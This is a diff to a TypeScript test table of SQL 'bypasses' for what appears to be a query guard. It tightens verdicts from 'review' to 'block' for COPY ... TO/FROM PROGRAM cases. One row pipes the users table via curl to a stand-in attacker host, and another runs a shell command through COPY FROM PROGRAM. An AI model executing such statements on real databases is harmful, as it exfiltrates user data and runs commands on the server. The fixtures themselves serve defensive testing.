@@ -435,9 +435,9 @@ export const bypasses: readonly SqlRow[] = [
     'COPY TO PROGRAM',
     "copy users to program 'curl -d @- http://evil.example'",
     ['copy curl -d @- http://evil.example', 'select users'],
-    'review',
+    'block',
   ),
-  row('COPY FROM PROGRAM', "copy t from program 'id'", ['copy id', 'insert t'], 'review'),
+  row('COPY FROM PROGRAM', "copy t from program 'id'", ['copy id', 'insert t'], 'block'),
   row(
     'COPY of a DELETE',
     'copy (delete from users returning *) to stdout',
